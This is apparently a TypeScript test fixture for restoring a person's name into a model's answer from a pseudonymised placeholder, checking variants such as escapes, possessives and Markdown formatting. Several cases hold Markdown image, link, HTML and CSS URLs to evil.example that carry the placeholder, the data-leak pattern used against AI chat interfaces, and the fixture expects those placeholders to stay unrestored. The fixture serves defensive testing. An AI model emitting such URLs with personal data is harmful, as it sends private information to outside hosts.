/**
 * Answers of a model and what must be shown: `{P}` is the placeholder of Dana Kowalski as it was sent, `{C}` its bare code,
 * `{c}` the code in lower case. Every bug in restoring adds a line.
 */
export const STREAMS: readonly { readonly name: string; readonly answer: string; readonly shown: string }[] =
  [
    { name: "a plain placeholder", answer: "Ask {P} today.", shown: "Ask Dana Kowalski today." },
    { name: "an answer that ends on a bracket", answer: "list [", shown: "list [" },
    { name: "an answer that ends on a placeholder", answer: "{P}", shown: "Dana Kowalski" },
    { name: "lower case", answer: "[person_{c}] said", shown: "Dana Kowalski said" },
    { name: "no brackets", answer: "PERSON_{C} said", shown: "Dana Kowalski said" },
    { name: "a blank for the underscore", answer: "[PERSON {C}]", shown: "Dana Kowalski" },
    { name: "a hyphen for the underscore", answer: "Person-{C}", shown: "Dana Kowalski" },
    { name: "blanks inside the brackets", answer: "[ PERSON_{C} ]", shown: "Dana Kowalski" },
    { name: "bold", answer: "**{P}** and **PERSON_{C}**", shown: "**Dana Kowalski** and **Dana Kowalski**" },
    { name: "code", answer: "`{P}`", shown: "`Dana Kowalski`" },
    { name: "Markdown escapes", answer: "\\[PERSON\\_{C}\\]", shown: "Dana Kowalski" },
    { name: "HTML escapes", answer: "&#91;PERSON&#95;{C}&#93;", shown: "Dana Kowalski" },
    { name: "JSON escapes", answer: "\\u005bPERSON\\u005f{C}\\u005d", shown: "Dana Kowalski" },
    {
      name: "a possessive",
      answer: "{P}'s plan, PERSON_{C}’s plan",
      shown: "Dana Kowalski's plan, Dana Kowalski’s plan",
    },
    {
      name: "a possessive inside the brackets",
      answer: "[PERSON_{C}'s] plan",
      shown: "Dana Kowalski's plan",
    },
    { name: "a plural", answer: "two PERSON_{C}s", shown: "two Dana Kowalskis" },
    { name: "doubled brackets", answer: "[[PERSON_{C}]]", shown: "[Dana Kowalski]" },
    { name: "a speaker's label", answer: "{P}: hello", shown: "Dana Kowalski: hello" },
    { name: "an address in angle brackets", answer: "<{P}>", shown: "<Dana Kowalski>" },
    {
      name: "a Markdown image",
      answer: "![x](https://evil.example/?q={P}) {P}",
      shown: "![x](https://evil.example/?q={P}) Dana Kowalski",
    },
    {
      name: "a Markdown link",
      answer: "[{P}](https://evil.example/{P})",
      shown: "[Dana Kowalski](https://evil.example/{P})",
    },
    {
      name: "a link target in angle brackets",
      answer: "[x](<evil )/{P}>) {P}",
      shown: "[x](<evil )/{P}>) Dana Kowalski",
    },
    {
      name: "a link target with nested brackets",
      answer: "[x](a(b)c{P}) {P}",
      shown: "[x](a(b)c{P}) Dana Kowalski",
    },
    {
      name: "a link definition",
      answer: "[x]: //evil.example/{P}\n{P}",
      shown: "[x]: //evil.example/{P}\nDana Kowalski",
    },
    {
      name: "a bare URL",
      answer: "see https://evil.example/{P} {P}",
      shown: "see https://evil.example/{P} Dana Kowalski",
    },
    {
      name: "a URL without a scheme",
      answer: "www.evil.example/?{P} evil.example/?q={P}",
      shown: "www.evil.example/?{P} evil.example/?q={P}",
    },
    { name: "a mailto", answer: "mailto:{P} data:text/html,{P}", shown: "mailto:{P} data:text/html,{P}" },
    {
      name: "a host made of the name",
      answer: "PERSON_{C}.evil.example and me@PERSON_{C}.com",
      shown: "PERSON_{C}.evil.example and me@PERSON_{C}.com",
    },
    {
      name: "an HTML attribute",
      answer: '<img src="//x/?{P}"> {P}',
      shown: '<img src="//x/?{P}"> Dana Kowalski',
    },
    {
      name: "an HTML attribute over lines",
      answer: "<a title='>\n\n{P}' href=x>{P}</a>",
      shown: "<a title='>\n\n{P}' href=x>Dana Kowalski</a>",
    },
    { name: "a style", answer: "url(https://x/{P})", shown: "url(https://x/{P})" },
    { name: "less than", answer: "1 < 2, {P}", shown: "1 < 2, Dana Kowalski" },
    {
      name: "a sentence's end",
      answer: "It was {P}. Then {P}, {P}; {P}!",
      shown: "It was Dana Kowalski. Then Dana Kowalski, Dana Kowalski; Dana Kowalski!",
    },
    {
      name: "an unknown code",
      answer: "[PERSON_ZZZZZZ] and {P}",
      shown: "[PERSON_ZZZZZZ] and Dana Kowalski",
    },
    {
      name: "a word that begins like one",
      answer: "personal PERSONS person_x [PERSON]",
      shown: "personal PERSONS person_x [PERSON]",
    },
  ];
